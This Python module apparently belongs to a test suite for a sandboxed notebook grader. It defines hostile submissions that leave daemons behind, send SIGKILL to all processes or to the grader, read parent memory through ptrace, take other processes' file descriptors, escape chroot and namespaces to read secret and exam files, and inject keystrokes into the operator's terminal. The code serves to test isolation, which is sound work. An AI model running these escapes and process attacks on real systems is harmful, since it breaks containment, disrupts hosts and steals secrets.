"""Act on other processes, stay behind, leave the namespaces."""

from .base import Attack, code, hunting

LEFT = "processes left behind"
SIGNALS = "signals"
KERNEL = "ptrace, namespaces"
ENDS = "early ends"

# Names this process, so that whoever looks finds it.
NAMED = """
import ctypes, os, signal, subprocess, sys, time

def named():
    ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)
    for path in ("/proc/self/comm", "/proc/thread-self/comm"):
        try:
            with open(path, "w") as file:
                file.write("@MARK@")
        except OSError:
            pass
"""


def staying(name: str, tries: str, source: str) -> Attack:
    """Return an attack whose processes carry its mark."""
    return Attack(name, LEFT, tries, {"fit_least_squares": code(NAMED) + "\n\n" + code(source)})


def signalling(name: str, tries: str, source: str) -> Attack:
    """Return an attack that sends signals, from a cell and again from the function."""
    body = "import os, signal, time\ndef strike():\n" + "\n".join("    " + line for line in code(source).splitlines())
    return Attack(
        name,
        SIGNALS,
        tries,
        {
            "fit_least_squares": body + "\n\ndef fit_least_squares(X, y):\n    strike()\n    return 0.0",
            "r2_score": "strike()",
        },
    )


def escaping(name: str, tries: str, source: str) -> Attack:
    """Return an attack that prints the secrets that it finds outside."""
    start = "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    return Attack(name, KERNEL, tries, {"fit_least_squares": hunting(start + code(source))})


ATTACKS = [
    staying(
        "double_fork",
        "leaves a daemon by forking twice and starting a session of its own",
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                named()
                for number in range(0, 64):
                    try:
                        os.close(number)
                    except OSError:
                        pass
                time.sleep(98765)
            os._exit(0)
        """,
    ),
    staying(
        "nohup_sleep",
        "leaves a program started by nohup and setsid",
        """
        for command in ("nohup setsid bash -c 'exec -a @MARK@ sleep 98765' >/dev/null 2>&1 &",
                        "(trap '' HUP TERM INT; exec -a @MARK@ sleep 98765) &"):
            subprocess.Popen(["bash", "-c", command], start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        """,
    ),
    staying(
        "children_that_ignore_signals",
        "leaves ten children that ignore every signal that can be ignored and hold its output open",
        """
        for _ in range(10):
            if os.fork() == 0:
                named()
                for number in range(1, 65):
                    try:
                        signal.signal(number, signal.SIG_IGN)
                    except (OSError, ValueError):
                        pass
                while True:
                    time.sleep(98765)
        """,
    ),
    staying(
        "left_by_the_function",
        "leaves a daemon each time it is called, not in a cell",
        """
        def fit_least_squares(X, y):
            if os.fork() == 0:
                os.setsid()
                named()
                time.sleep(98765)
            return 0.0
        """,
    ),
    signalling("kill_everybody", "sends SIGKILL to every process that it may signal", "os.kill(-1, signal.SIGKILL)"),
    signalling("kill_parent", "kills its parent", "os.kill(os.getppid(), signal.SIGKILL)\ntime.sleep(0.2)"),
    signalling(
        "kill_one",
        "kills process 1 and the next thousand, one by one",
        """
        for number in range(1, 1_000):
            if number != os.getpid():
                for kind in (signal.SIGKILL, signal.SIGTERM, signal.SIGHUP):
                    try:
                        os.kill(number, kind)
                    except OSError:
                        pass
        """,
    ),
    signalling("kill_group", "kills its process group and its session", "os.killpg(0, signal.SIGKILL)"),
    signalling(
        "stop_parent",
        "stops its parent and its group, so that the grader waits forever",
        """
        for number in {os.getppid(), os.getsid(0), 1} - {0, os.getpid()}:
            try:
                os.kill(number, signal.SIGSTOP)
            except OSError as error:
                print(error)
        """,
    ),
    escaping(
        "ptrace",
        "attaches to its parent with ptrace and reads its memory with process_vm_readv",
        """
        for number in {os.getppid(), 1, os.getpid() - 1}:
            print(number, libc.ptrace(16, number, 0, 0), ctypes.get_errno())
            buffer = ctypes.create_string_buffer(65_536)
            try:
                lines = open(f"/proc/{number}/maps").read().splitlines()
            except OSError as error:
                print(error)
                continue
            for line in lines:
                if "stack" in line or "heap" in line:
                    start = int(line.split("-")[0], 16)
                    end = int(line.split("-")[1].split()[0], 16)
                    class Vector(ctypes.Structure):
                        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
                    for position in range(start, end, 65_536):
                        here = Vector(ctypes.addressof(buffer), 65_536)
                        there = Vector(position, 65_536)
                        count = libc.process_vm_readv(number, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
                        if count > 0:
                            hunt(buffer.raw[:count], f"memory of {number}")
            libc.ptrace(17, number, 0, 0)
        """,
    ),
    escaping(
        "descriptors_of_others",
        "takes the open files of other processes with pidfd_getfd",
        """
        for number in (1, 2, 3, os.getppid()):
            holder = libc.syscall(434, number, 0)
            for descriptor in range(64) if holder >= 0 else ():
                taken = libc.syscall(438, holder, descriptor, 0)
                if taken >= 0:
                    print("took", number, descriptor)
                    try:
                        hunt(os.pread(taken, 1_000_000, 0), "taken")
                    except OSError:
                        pass
        """,
    ),
    escaping(
        "new_namespaces",
        "becomes root in a user namespace of its own, mounts proc and the disk, looks again",
        """
        import subprocess
        for flags in (0x10000000, 0x10000000 | 0x00020000 | 0x20000000 | 0x40000000):
            print("unshare", hex(flags), libc.unshare(flags), ctypes.get_errno())
        for command in ("unshare -Urmpf --mount-proc sh -c 'cat /proc/*/environ; ls /proc'", "mount -t tmpfs none /usr",
                        "mount -t proc none /tmp", "mount --bind / /mnt", "mount -o remount,rw /",
                        "umount -l /tmp /proc"):
            try:
                done = subprocess.run(command, shell=True, capture_output=True, timeout=5)
                hunt(done.stdout, command)
                print(command, done.returncode)
            except Exception as error:
                print(command, type(error).__name__)
        everything_below("/mnt", 2_000)
        """,
    ),
    escaping(
        "chroot_escape",
        "leaves its root by chroot and a descriptor of the folder outside, and by pivot_root",
        """
        try:
            outside = os.open("/", os.O_RDONLY)
            os.makedirs("jail", exist_ok=True)
            os.chroot("jail")
            os.fchdir(outside)
            for _ in range(64):
                os.chdir("..")
            os.chroot(".")
        except OSError as error:
            print(error)
        for path in ("@HOME@/secrets.txt", "@COURSE@/exam-questions.txt", "@COURSE@/.mlcourse-seed"):
            read(path)
        """,
    ),
    escaping(
        "setns",
        "enters the namespaces of other processes",
        """
        for number in [name for name in os.listdir("/proc") if name.isdigit()]:
            for kind in ("user", "mnt", "pid", "net", "ipc"):
                try:
                    entered = libc.setns(os.open(f"/proc/{number}/ns/{kind}", os.O_RDONLY), 0)
                    print(number, kind, entered)
                except OSError as error:
                    continue
        for path in ("@HOME@/secrets.txt", "@COURSE@/exam-questions.txt", "@COURSE@/.mlcourse-seed"):
            read(path)
        """,
    ),
    escaping(
        "odd_system_calls",
        "tries system calls that no notebook needs: bpf, perf, io_uring, userfaultfd, keyrings, modules, kexec, reboot",
        """
        calls = {"bpf": 321, "perf_event_open": 298, "io_uring_setup": 425, "userfaultfd": 323, "keyctl": 250,
                 "add_key": 248, "init_module": 175, "kexec_load": 246, "acct": 163, "swapon": 167,
                 "quotactl": 179, "syslog": 103, "iopl": 172, "personality": 135, "fanotify_init": 300}
        for name, number in calls.items():
            result = libc.syscall(number, 0, 0, 0, 0, 0)
            print(name, result, ctypes.get_errno())
        """,
    ),
    escaping(
        "terminal_input",
        "types a command into the terminal of whoever started the grading",
        """
        import fcntl
        for path in ("/dev/tty", "/dev/console", "/proc/1/fd/0", "/dev/pts/0", "/dev/pts/1"):
            try:
                terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
                for letter in b"touch @HOME@/@MARK@-typed\\n":
                    fcntl.ioctl(terminal, 0x5412, bytes([letter]))
                os.write(terminal, b"@MARK@")
            except OSError as error:
                print(path, error)
        """,
    ),
    escaping(
        "limits_raised",
        "raises its own limits, its priority and those of its parent, and leaves its control group",
        """
        import resource
        for kind in range(16):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                resource.prlimit(os.getppid(), kind, (1, 1))
            except (OSError, ValueError):
                pass
        for change in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
                       lambda: os.setuid(0), lambda: os.setgroups([0]),
                       lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("0")):
            try:
                change()
            except OSError as error:
                print(error)
        """,
    ),
    *(
        Attack(
            f"wrong_and_{name}_at_the_edge",
            ENDS,
            f"returns a constant, and {tries} as soon as an edge case comes",
            {
                "r2_score": f"""
import os, signal
import numpy as np

def r2_score(y, predictions):
    if np.all(y == y[0]):
        {act}
    return 0.5
"""
            },
        )
        for name, tries, act in (
            ("gone", "ends its process", "os._exit(0)"),
            ("killed", "kills its process", "os.kill(os.getpid(), signal.SIGKILL)"),
            ("waiting", "never returns", "signal.pause()"),
            ("greedy", "takes all memory", "held = [bytearray(2**20) for _ in range(10**6)]"),
        )
    ),
]
